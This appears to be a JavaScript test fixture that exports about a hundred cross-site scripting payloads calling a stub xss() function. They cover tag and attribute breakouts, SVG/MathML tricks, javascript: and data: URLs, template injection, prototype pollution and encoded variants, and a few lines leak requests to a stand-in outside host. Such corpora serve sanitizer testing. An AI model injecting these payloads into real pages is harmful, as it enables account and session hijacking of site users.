// A hundred texts that run xss() in a page that trusts them: by elements, attributes, addresses,
// styles, broken quotes, templates, other encodings, and the ways out of JSON and scripts.
export const PAYLOADS = String.raw`
<script>xss()</script>
<SCRIPT>xss()</SCRIPT>
<script src=data:,xss()></script>
<script>/*<!--*/xss()//--></script>
<script type=module>xss()</script>
<scr<script>ipt>xss()</scr</script>ipt>
</script><script>xss()</script>
</textarea><script>xss()</script>
</title><script>xss()</script>
</style><script>xss()</script>
</noscript><script>xss()</script>
--><script>xss()</script>
]]><script>xss()</script>
"><script>xss()</script>
'><script>xss()</script>
${'`'}><script>xss()</script>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<IMG SRC=x OnErRoR=xss()>
<img/src=x/onerror=xss()>
<img src=x:x onerror=window['xss']()>
<img src=/favicon.svg onload=xss()>
<img srcset=x onerror=xss()>
"><img src=x onerror=xss()>
'><img src=x onerror=xss()>
" onmouseover="xss()" x="
' onfocus='xss()' autofocus='
" autofocus onfocus=xss() x="
" style="animation-name:x" onanimationstart="xss()" x="
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><script href=data:,xss() /></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s></svg>
<svg><set onbegin=xss() attributeName=x></svg>
<svg><a xlink:href="javascript:xss()"><text y=20>go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>
<math href="javascript:xss()">go</math>
<iframe src="javascript:parent.xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe onload=xss()></iframe>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>parent.xss()</script>"></object>
<embed src="javascript:xss()">
<embed src="data:text/html,<script>parent.xss()</script>">
<video src=x onerror=xss()></video>
<video><source onerror=xss()></video>
<audio src=x onerror=xss()></audio>
<body onload=xss()>
<body onpageshow=xss()>
<html onmouseenter=xss()>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()></select>
<textarea autofocus onfocus=xss()></textarea>
<button autofocus onfocus=xss()>press</button>
<details open ontoggle=xss()>more</details>
<marquee onstart=xss()>runs</marquee>
<div onpointerover=xss() style=position:fixed;inset:0>over all</div>
<div style="animation:x 1s" onanimationstart=xss()></div>
<style>@keyframes x{}*{animation:x 1s}</style><div onanimationstart=xss()></div>
<style>@import 'data:text/css,*{color:red}';</style>
<style>body{background:url(https://elsewhere.example/leak)}</style>
<link rel=stylesheet href="data:text/css,*{display:none}">
<link rel=prefetch href=https://elsewhere.example/leak>
<meta http-equiv=refresh content="0;url=javascript:xss()">
<meta http-equiv=refresh content="0;url=data:text/html,<script>opener.xss()</script>">
<base href=https://elsewhere.example/>
<form action="javascript:xss()"><button autofocus>send</button></form>
<form><button formaction="javascript:xss()">send</button></form>
<a href="javascript:xss()">read on</a>
<a href="JaVaScRiPt:xss()">read on</a>
<a href="java&#10;script:xss()">read on</a>
<a href="&#106;avascript:xss()">read on</a>
<a href="data:text/html,<script>xss()</script>">read on</a>
<a href="vbscript:xss()">read on</a>
javascript:xss()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xss()//'>
data:text/html,<script>xss()</script>
[read on](javascript:xss())
![x](x"onerror="xss())
{{constructor.constructor('xss()')()}}
${'$'}{xss()}
#{xss()}
<%= xss() %>
{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss()>"}}
constructor.prototype.toString=xss
';xss();//
";xss();//
\";xss();//
\u003cscript\u003exss()\u003c/script\u003e
&lt;script&gt;xss()&lt;/script&gt;
&#60;img src=x onerror=xss()&#62;
%3Cscript%3Exss()%3C/script%3E
+ADw-script+AD4-xss()+ADw-/script+AD4-
＜script＞xss()＜/script＞
<template><script>xss()</script></template><x-y onclick=xss()>x</x-y>
<noscript><p title="</noscript><img src=x onerror=xss()>">
`
  .trim()
  .split('\n');
